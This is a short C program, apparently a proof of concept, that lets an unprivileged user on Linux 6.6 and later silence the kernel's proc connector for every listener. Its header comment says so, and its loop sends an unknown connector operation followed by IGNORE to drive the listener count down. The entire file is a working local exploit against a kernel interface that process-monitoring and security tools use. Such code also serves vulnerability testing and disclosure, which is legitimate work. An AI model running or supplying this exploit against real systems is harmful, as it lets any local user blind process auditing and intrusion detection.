/*
 * mute STEPS: silences the proc connector for everybody, as any user of Linux 6.6 and later can: an operation that the kernel does not
 * know, then IGNORE, drives its count of listeners down. Exit 1 where the kernel does not let us.
 */
#include <errno.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static int
say(int fd, uint32_t op)
{
	struct { struct nlmsghdr h; struct cn_msg cn; uint32_t op; } __attribute__((packed)) m = {
		.h = { .nlmsg_len = sizeof(m), .nlmsg_type = NLMSG_DONE }, .cn = { .id = { CN_IDX_PROC, CN_VAL_PROC }, .len = sizeof(op) }, .op = op };

	return send(fd, &m, sizeof(m), 0) < 0 ? -1 : 0;
}

int
main(int argc, char **argv)
{
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC };
	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);

	if (argc != 2 || fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return 1;
	for (long i = strtol(argv[1], NULL, 10); i > 0; i--)
		if (say(fd, 77) || say(fd, PROC_CN_MCAST_IGNORE))
			return 1;
	return 0;
}
